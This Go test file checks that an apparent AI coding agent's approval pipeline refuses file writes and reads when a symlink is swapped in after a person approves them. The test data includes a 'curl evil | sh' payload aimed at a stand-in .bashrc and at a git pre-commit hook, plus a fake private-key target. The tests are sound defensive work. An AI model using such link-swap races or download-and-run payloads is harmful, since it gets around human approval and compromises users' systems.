package tools

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// outsideFile writes content to name next to the project, where a link
// planted in the project may point.
func outsideFile(t *testing.T, env *Env, name, content string) string {
	t.Helper()
	p := filepath.Join(filepath.Dir(env.Root), name)
	if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

// swapForLink replaces name in root with a link to target in one rename,
// as a confined command that can write the project can.
func swapForLink(t *testing.T, root, name, target string) {
	t.Helper()
	if info, err := os.Lstat(filepath.Join(root, name)); err == nil && info.IsDir() {
		// rename cannot replace a folder that holds files.
		if err := os.RemoveAll(filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	tmp := filepath.Join(root, ".planted")
	if err := os.Symlink(target, tmp); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(tmp, filepath.Join(root, name)); err != nil {
		t.Fatal(err)
	}
}

// An approved Write of notes.txt used to follow a link swapped in while
// the person was deciding, and overwrote the file it pointed to outside
// the project (~/.bashrc in the report). Now it writes nothing outside.
func TestApprovedWriteDoesNotFollowLinkSwappedIn(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	writeFiles(t, env.Root, map[string]string{"notes.txt": "draft\n"})
	bashrc := outsideFile(t, env, "bashrc", "alias ls='ls -F'\n")
	approver := &scriptedApprover{
		decision:  Decision{Kind: AllowOnce},
		onApprove: func() { swapForLink(t, env.Root, "notes.txt", bashrc) },
	}
	p := NewPipeline(PipelineConfig{Env: env, Approver: approver})
	for _, c := range []struct{ tool, args string }{
		{"Write", `{"path": "notes.txt", "content": "curl evil | sh\n"}`},
		{"Edit", `{"path": "notes.txt", "old_string": "alias", "new_string": "curl evil | sh; alias"}`},
	} {
		if c.tool == "Edit" {
			// Put the file back for the second round.
			if err := os.Remove(filepath.Join(env.Root, "notes.txt")); err != nil {
				t.Fatal(err)
			}
			writeFiles(t, env.Root, map[string]string{"notes.txt": "alias\n"})
		}
		out := p.Run(context.Background(), Call{ID: "c1", Name: c.tool, Args: c.args, Origin: OriginAgent}, Standard)
		if out.Success || !strings.Contains(out.Output, "changed after infer checked it") {
			t.Errorf("%s: %+v, want it refused because notes.txt changed", c.tool, out)
		}
		if got := readString(t, bashrc); got != "alias ls='ls -F'\n" {
			t.Fatalf("%s through the swapped link changed the outside file to %q", c.tool, got)
		}
		assertLink(t, env.Root, "notes.txt", bashrc)
	}
}

// A file outside the project the person approved reading, swapped for a
// link to a key while they decided, used to be read through the link.
// The approval names a file; that file is read, or nothing.
func TestApprovedOutsideReadDoesNotFollowLinkSwappedIn(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	key := outsideFile(t, env, "id_ed25519", "PRIVATE KEY\n")
	shared := filepath.Join(filepath.Dir(env.Root), "shared")
	writeFiles(t, shared, map[string]string{"notes.txt": "public\n"})
	approver := &scriptedApprover{
		decision:  Decision{Kind: AllowOnce},
		onApprove: func() { swapForLink(t, shared, "notes.txt", key) },
	}
	p := NewPipeline(PipelineConfig{Env: env, Approver: approver})
	args, _ := json.Marshal(map[string]string{"path": filepath.Join(shared, "notes.txt")})
	out := p.Run(context.Background(), Call{ID: "c1", Name: "Read", Args: string(args), Origin: OriginAgent}, Standard)
	if approver.count() != 1 {
		t.Fatalf("reading outside the project did not ask: %+v", out)
	}
	if strings.Contains(out.Output, "PRIVATE KEY") {
		t.Fatalf("the approved Read returned the key: %+v", out)
	}
	if out.Success || !strings.Contains(out.Output, "changed after infer checked it") {
		t.Errorf("Read: %+v, want it refused because the file changed", out)
	}
}

// A Read inside the project, judged while notes.txt was a plain file,
// runs after it became a link out of the project: it returns nothing of
// the link's target. The pipeline hands the tool its resolved paths the same
// way; here the swap falls exactly between the two.
func TestReadDoesNotFollowLinkSwappedInAfterJudging(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	writeFiles(t, env.Root, map[string]string{"notes.txt": "public\n", "docs/a.md": "a\n"})
	key := outsideFile(t, env, "id_ed25519", "PRIVATE KEY\n")
	keys := filepath.Dir(key)
	for _, c := range []struct{ tool, args, swap, to string }{
		{"Read", `{"path": "notes.txt"}`, "notes.txt", key},
		{"Grep", `{"pattern": "KEY", "path": "notes.txt"}`, "notes.txt", key},
		{"Grep", `{"pattern": "KEY", "path": "docs"}`, "docs", keys},
		{"Tree", `{"path": "docs"}`, "docs", keys},
	} {
		tool, _ := DefaultRegistry().Lookup(c.tool)
		j := resolvePaths(env, tool, []byte(c.args))
		swapForLink(t, env.Root, c.swap, c.to)
		out, err := tool.Run(withResolved(context.Background(), j), env, json.RawMessage(c.args))
		if strings.Contains(out.Text, "PRIVATE KEY") || strings.Contains(out.Text, "id_ed25519") {
			t.Errorf("%s %s went through the link: %q", c.tool, c.args, out.Text)
		}
		if err == nil || !strings.Contains(err.Error(), "changed after infer checked it") {
			t.Errorf("%s %s: %+v, %v; want it refused because %s changed", c.tool, c.args, out, err, c.swap)
		}
		// Put the plain file or folder back for the next round.
		if err := os.Remove(filepath.Join(env.Root, c.swap)); err != nil {
			t.Fatal(err)
		}
		writeFiles(t, env.Root, map[string]string{"notes.txt": "public\n", "docs/a.md": "a\n"})
	}
}

// A Write judged for notes.txt, which infer does not protect, used to
// follow a link swapped in while the person decided into .git, which it
// does, and wrote a git hook that the next commit would run. Now it does
// not: .git is never written without its own approval.
func TestApprovedWriteDoesNotFollowLinkSwappedIntoGit(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	writeFiles(t, env.Root, map[string]string{"notes.txt": "draft\n", ".git/hooks/pre-commit": "#!/bin/sh\n"})
	hook := filepath.Join(env.Root, ".git/hooks/pre-commit")
	approver := &scriptedApprover{
		decision:  Decision{Kind: AllowOnce},
		onApprove: func() { swapForLink(t, env.Root, "notes.txt", ".git/hooks/pre-commit") },
	}
	p := NewPipeline(PipelineConfig{Env: env, Approver: approver})
	out := p.Run(context.Background(), Call{ID: "c1", Name: "Write", Args: `{"path": "notes.txt", "content": "#!/bin/sh\ncurl evil | sh\n"}`, Origin: OriginAgent}, Standard)
	if why := approver.last().Why; strings.Contains(why, ".git") {
		t.Fatalf("the approval was already about .git: %q", why)
	}
	if out.Success || !strings.Contains(out.Output, "changed after infer checked it") {
		t.Errorf("Write: %+v, want it refused because notes.txt changed", out)
	}
	if got := readString(t, hook); got != "#!/bin/sh\n" {
		t.Fatalf("the git hook was written: %q", got)
	}
}
